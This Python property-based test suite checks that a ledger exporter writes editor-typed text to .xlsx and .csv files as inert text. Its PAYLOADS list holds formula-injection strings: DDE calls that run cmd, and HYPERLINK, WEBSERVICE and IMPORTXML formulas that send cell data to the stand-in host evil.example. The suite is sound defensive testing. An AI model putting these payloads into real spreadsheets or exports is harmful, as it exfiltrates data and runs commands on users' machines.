"""Property-based tests (Hypothesis) of the exported ledger: whatever text an editor puts in
an activity's fields, the category and criterion names, the department list and a routine's
title, ``wenming export`` writes it as inert text: in the .xlsx a string cell (never a
formula or error value), marked as text when it starts like a formula, with the value as
typed; in the .csv with a leading apostrophe when it starts like a formula. Only the
ledger's own 合计 rows hold formulas.

Each example loads a small unit (no MkDocs) and writes both files: about 0.3 s. Profiles and
seeds as in ``tests/test_properties.py``.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
import tempfile
from pathlib import Path

from conftest import BASE_FILES, TODAY, UNIT_YML
from hypothesis import assume, event, given
from hypothesis import strategies as st
from openpyxl import load_workbook
from test_properties import examples, make_site, rerun_hint

from wenmingsite.outputs import export, pack

# What makes a spreadsheet program read a cell as a formula, as editors could type it
# (half-width, full-width, small forms, after spaces).
TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", " =", "\u3000+", "  @"]
PAYLOADS = [
    'HYPERLINK("http://evil.example/?"&A1,"点我")',
    "cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example/")',
    "1+1",
    "2024",
    "A1",
    'DDE("cmd";"/C calc";"!A0")',
    'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "学雷锋志愿服务",
    "",
]
SAFE_TEXT = st.text(
    alphabet=st.sampled_from(list("学雷锋志愿服务集市农技咨询ABCxyz0123456789 ()!|'\",;:&*/+-=@")), max_size=20
)


@st.composite
def formula_like(draw) -> str:
    text = draw(st.sampled_from(TRIGGERS)) + draw(st.sampled_from(PAYLOADS)) + draw(SAFE_TEXT)
    return text[:60]


def q(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


FIELDS = ("title", "summary", "location", "department", "category", "criterion", "routine")


def unit_files(v: dict[str, str]) -> dict[str, str]:
    return {
        "data/unit.yml": UNIT_YML.replace("departments: [办公室, 工会]", f"departments:\n  - {q(v['department'])}\n"),
        "data/criteria.yml": f"- id: volunteer-service\n  name: {q(v['criterion'])}\n",
        "data/categories.yml": f"- name: {q(v['category'])}\n  slug: volunteer\n  criteria: [volunteer-service]\n",
        "docs/activities/2024-03-05-plant.md": (
            "---\n"
            f"title: {q(v['title'])}\n"
            "date: 2024-03-05\n"
            "category: volunteer\n"
            f"department: {q(v['department'])}\n"
            f"location: {q(v['location'])}\n"
            f"summary: {q(v['summary'])}\n"
            "participants: 20\n"
            "volunteer_hours: 40\n"
            "---\n\n正文。\n"
        ),
        "data/activities/2024.yml": (
            "activities:\n"
            f"  - title: {q(v['title'] + '（记录）')}\n"
            "    date: 2024-04-01\n"
            "    category: volunteer\n"
            f"    location: {q(v['location'])}\n"
            "routines:\n"
            f"  - title: {q(v['routine'])}\n"
            "    repeat: 每月\n"
            "    day: 15\n"
            "    start: 2024-01-01\n"
            "    end: 2024-03-31\n"
            "    category: volunteer\n"
            "    participants: 5\n"
        ),
    }


TOTAL = re.compile(r'=(SUM|COUNTA)\([A-Z]+\d+:[A-Z]+\d+\)(&" 项")?')
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@examples(60)
@given(values=st.fixed_dictionaries({f: formula_like() for f in FIELDS}))
def test_formula_like_text_in_every_field_is_exported_inert(values):
    rerun_hint("test_formula_like_text_in_every_field_is_exported_inert")
    with tempfile.TemporaryDirectory() as tmp:
        root = make_site(Path(tmp), unit_files(values), base=BASE_FILES)
        try:
            site = pack.bind_site(root, TODAY)
        except pack.PackRefused:
            # The loader may refuse a value (blank after trimming, a YAML trap...): another
            # suite's concern. Hypothesis reports it if that became the usual case.
            event("refused by the loader")
            assume(False)
            return
        event("loaded")
        content = site.content
        # The text as the loader kept it (trimmed, as every output shows it).
        typed = {c.name for c in content.categories} | {c.name for c in content.criteria}
        typed |= {r.title for r in content.routines}
        for a in content.activities:
            typed |= {v for v in (a.title, a.summary, a.location, a.department) if v}
        ledger = export.Ledger(content, site.records, site.stats)
        xlsx, csv_path = Path(tmp) / "台账.xlsx", Path(tmp) / "台账.csv"
        export.write_xlsx(xlsx, ledger)
        routines = export.write_csv(csv_path, ledger)[1]

        book = load_workbook(xlsx)
        found: set[str] = set()
        for ws in book.worksheets:
            last = ws.max_row
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert cell.row == last and TOTAL.fullmatch(cell.value), (ws.title, cell.coordinate, cell.value)
                    elif isinstance(cell.value, str):
                        assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                        if export.formula_like(cell.value):
                            assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                        if cell.value in typed:
                            found.add(cell.value)
                    elif isinstance(cell.value, (dt.date, dt.datetime)) or cell.value is None:
                        pass
                    else:
                        assert isinstance(cell.value, (int, float)), (ws.title, cell.coordinate, cell.value)
        assert found == {t for t in typed if t}, {t for t in typed if t} - found

        seen: set[str] = set()
        for path in (csv_path, routines):
            with path.open(encoding="utf-8-sig", newline="") as f:
                for fields in csv.reader(f):
                    for field in fields:
                        assert not export.formula_like(field) or NUMBER.fullmatch(field), (path.name, field)
                        if field.startswith("'") and field[1:] in typed:
                            seen.add(field[1:])
        assert seen <= {t for t in typed if export.formula_like(t)}
        shown = [c.name for c in content.criteria]
        for record in site.records:
            shown += [record.get(k) for k in ("title", "location", "department", "summary", "category")]
        for value in shown:
            if isinstance(value, str) and export.formula_like(value):
                assert value in seen, value
